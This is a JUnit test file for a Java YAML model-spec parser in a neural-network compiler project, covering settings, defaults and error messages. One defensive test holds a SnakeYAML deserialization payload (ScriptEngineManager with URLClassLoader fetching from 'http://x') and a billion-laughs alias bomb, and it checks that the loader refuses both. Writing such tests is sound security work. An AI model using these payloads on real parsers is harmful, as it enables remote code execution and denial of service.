package dev.dynnc.compiler;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.dynnc.weights.Checkpoints;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ModelSpecTest {
  @TempDir Path dir;

  private Path spec(String text) throws Exception {
    Path d = Files.createDirectories(dir.resolve("my_model"));
    return Files.writeString(d.resolve("dynnc.yaml"), text);
  }

  private String error(String text) throws Exception {
    Path f = spec(text);
    return assertThrows(ModelSpec.SpecException.class, () -> ModelSpec.read(f))
        .getMessage()
        .replace(f.toString(), "SPEC");
  }

  @Test
  void readsEverySettingWithPathsBesideTheSpec() throws Exception {
    Path f =
        spec(
            """
        name: early-exit
        source-root: src
        entry: models.sdn:build_model(num_classes=10)
        method: infer
        inputs:
          x: float32[1,3,32,32]
          mask: bool[1,4]
        weights: ckpt/w.pt
        weights-key: checkpoint.state_dict
        strip-prefix: module.
        target: llvm
        compile-timeout: 30
        max-errors: 5
        tune: 120
        """);
    ModelSpec s = ModelSpec.read(f);
    Path d = f.toAbsolutePath().getParent();
    assertEquals("early-exit", s.name());
    assertEquals(d.resolve("src"), s.sourceRoot());
    assertEquals("models.sdn:build_model(num_classes=10)", s.entry());
    assertEquals(Optional.of("infer"), s.method());
    assertEquals(List.of("x=float32[1,3,32,32]", "mask=bool[1,4]"), s.inputs());
    assertEquals(d.resolve("ckpt/w.pt"), s.weights());
    assertEquals(new Checkpoints.Selection("checkpoint.state_dict", "module."), s.selection());
    assertEquals(Optional.of("llvm"), s.target());
    assertEquals(OptionalInt.of(30), s.compileTimeoutSeconds());
    assertEquals(OptionalInt.of(5), s.maxErrors());
    assertEquals(OptionalInt.of(120), s.tuneSeconds());
  }

  @Test
  void defaultsNameToTheDirectoryAndSourceRootToIt() throws Exception {
    ModelSpec s = ModelSpec.read(spec("entry: m:f()\ninputs: {x: 'float32[2]'}\nweights: w.pt\n"));
    assertEquals("my_model", s.name());
    assertEquals(dir.resolve("my_model").toAbsolutePath(), s.sourceRoot());
    assertEquals(dir.resolve("my_model/w.pt").toAbsolutePath(), s.weights());
    assertEquals(Optional.empty(), s.method());
    assertEquals(Checkpoints.Selection.NONE, s.selection());
  }

  @Test
  void mistakesAreLocated() throws Exception {
    String base = "entry: m:f()\nweights: w.pt\n";
    assertEquals(
        "SPEC:3:1: unknown setting 'entyr'; a model spec has name, source-root, entry, method, inputs,"
            + " weights, weights-key, strip-prefix, target, compile-timeout, max-errors, tune",
        error(base + "entyr: x\n"));
    assertEquals(
        "SPEC:4:3: input 'x=float32[1,0]': dimension 2 is 0; every dimension must be at least 1"
            + " (dynnc does not compile empty tensors)",
        error(base + "inputs:\n  x: float32[1,0]\n"));
    assertEquals(
        "SPEC:3:18: 'compile-timeout' must be a whole number from 1 to 2147483647, got '-3'",
        error(base + "compile-timeout: -3\ninputs: {x: 'float32[1]'}\n"));
    assertEquals("SPEC: the model spec needs 'inputs:', e.g. 'x: float32[1,3,32,32]'", error(base));
    assertEquals(
        "SPEC: the model spec needs 'weights:'",
        error("entry: m:f()\ninputs: {x: 'float32[1]'}\n"));
    assertEquals(
        "SPEC:1:7: model name '1bad' must be a letter followed by at most 63 letters, digits, '_' or '-'",
        error("name: 1bad\n" + base + "inputs: {x: 'float32[1]'}\n"));
    assertEquals(
        "SPEC:4:15: 'strip-prefix' must be a non-empty text value",
        error(base + "inputs: {x: 'float32[1]'}\nstrip-prefix: ''\n"));
    assertEquals(
        "SPEC:4:14: 'weights-key' must be a non-empty text value",
        error(base + "inputs: {x: 'float32[1]'}\nweights-key: [a, b]\n"));
    assertEquals(
        "SPEC: a model spec is a mapping of settings (name, entry, inputs, weights, ...)",
        error("- a\n- b\n"));
  }

  @Test
  void hostileYamlIsRefusedWithoutConstructingAnything() throws Exception {
    // A global tag that a full loader would instantiate is refused by the safe loader.
    assertEquals(
        "SPEC:1:8: invalid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager",
        error(
            "entry: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n"
                + "weights: w.pt\ninputs: {x: 'float32[1]'}\n"));
    // Billion laughs: aliases are capped.
    StringBuilder b = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
    for (char c = 'b'; c <= 'l'; c++) {
      String p = String.valueOf((char) (c - 1));
      b.append(c)
          .append(": &")
          .append(c)
          .append(" [*")
          .append(p)
          .append(", *")
          .append(p)
          .append(", *")
          .append(p)
          .append(", *")
          .append(p)
          .append(", *")
          .append(p)
          .append(", *")
          .append(p)
          .append("]\n");
    }
    String e = error(b.toString());
    assertEquals(
        "SPEC: invalid YAML: Number of aliases for non-scalar nodes exceeds the specified max=10",
        e);
    assertEquals("SPEC:2:1: setting 'entry' is given twice", error("entry: a:b()\nentry: c:d()\n"));
  }
}
